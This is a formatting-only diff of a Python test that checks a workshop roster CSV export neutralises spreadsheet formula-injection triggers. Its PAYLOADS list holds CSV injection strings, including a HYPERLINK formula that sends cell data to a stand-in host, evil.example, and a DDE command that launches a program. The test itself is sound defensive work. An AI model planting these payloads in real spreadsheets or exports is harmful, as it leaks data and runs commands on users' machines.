@@ -23,8 +23,17 @@ from tests import factories
 from tests.conftest import AuthActions
 from tests.workshops.conftest import CATALOGUE, details
 
-PAYLOADS = ["=1+1", "+1+1", "-1+1", "@SUM(1+1)", '=HYPERLINK("http://evil.example/?x="&A1,"x")',
-            "=cmd|' /C calc'!A0", "\t=1+1", "\r=1+1", 'a,b"c\nd']
+PAYLOADS = [
+    "=1+1",
+    "+1+1",
+    "-1+1",
+    "@SUM(1+1)",
+    '=HYPERLINK("http://evil.example/?x="&A1,"x")',
+    "=cmd|' /C calc'!A0",
+    "\t=1+1",
+    "\r=1+1",
+    'a,b"c\nd',
+]
 TRIGGERS = ("=", "+", "-", "@", "\t", "\r", "\x00")
 
 
@@ -41,13 +50,18 @@ def exported(app, db):
     services.open_workshop(db, workshop)
     for n, payload in enumerate(PAYLOADS):
         organisation = factories.organisation(db, name=payload + f" {n}")
-        person = factories.user(db, email=f"p{n}@example.org", display_name=payload,
-                                organisation=organisation)
+        person = factories.user(
+            db, email=f"p{n}@example.org", display_name=payload, organisation=organisation
+        )
         services.join(db, workshop, person, CATALOGUE)
     other = services.create(db, factories.user(db, role="trainer"), details(), CATALOGUE)
     services.open_workshop(db, other)
-    services.join(db, other, factories.user(db, email="elsewhere@example.org",
-                                            display_name="Elsewhere Person"), CATALOGUE)
+    services.join(
+        db,
+        other,
+        factories.user(db, email="elsewhere@example.org", display_name="Elsewhere Person"),
+        CATALOGUE,
+    )
     db.commit()
     client = app.test_client()
     AuthActions(client).login(email="trainer@example.org")
@@ -70,8 +84,9 @@ def test_roster_csv_neutralises_every_trigger_and_round_trips(exported):
     for row in rows[1:]:
         assert not any(cell.startswith(TRIGGERS) for cell in row), row
     assert sorted(row[0] for row in rows[1:]) == sorted(_expected(p) for p in PAYLOADS)
-    assert sorted(row[2] for row in rows[1:]) == sorted(_expected(f"{p} {n}") for n, p in
-                                                        enumerate(PAYLOADS))
+    assert sorted(row[2] for row in rows[1:]) == sorted(
+        _expected(f"{p} {n}") for n, p in enumerate(PAYLOADS)
+    )
     assert "Elsewhere Person" not in raw and "elsewhere@example.org" not in raw
 
 
